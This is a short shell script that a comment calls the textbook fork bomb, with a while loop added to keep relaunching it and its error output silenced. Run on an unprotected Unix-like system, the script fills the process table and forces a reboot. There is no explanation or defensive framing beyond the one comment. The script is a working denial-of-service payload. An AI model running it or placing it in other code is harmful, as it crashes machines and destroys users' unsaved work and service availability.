# The fork bomb of the textbooks, with the first shell kept alive. Unprotected it needs a reboot.
bomb() {
  bomb | bomb
}
while true; do
  (bomb) 2>/dev/null
done
